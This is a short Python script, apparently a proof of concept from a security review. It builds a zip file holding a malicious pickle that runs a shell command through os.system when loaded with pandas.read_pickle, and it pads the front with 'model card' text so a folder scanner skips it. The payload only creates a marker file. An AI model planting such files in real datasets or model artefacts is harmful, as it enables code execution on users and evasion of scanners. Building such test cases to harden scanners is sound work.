"""A .zip that pandas.read_pickle opens by its name though it does not start as an archive:
Python's zipfile finds the end record and adds the bytes before the archive to every offset."""
import io, os, pickle, sys, zipfile

out = sys.argv[1] if len(sys.argv) > 1 else "."
class P:
    def __reduce__(self): return (os.system, ("touch /tmp/r37-pwned-pandas-zip",))
b = io.BytesIO()
with zipfile.ZipFile(b, "w") as z:
    z.writestr("frame.pkl", pickle.dumps(P(), protocol=4))
# text before the archive: a folder scan took the file for text and skipped it
with open(os.path.join(out, "review37-pandas_zip_prefix.zip"), "wb") as f:
    f.write(b"model card: see README\n" * 4 + b.getvalue())
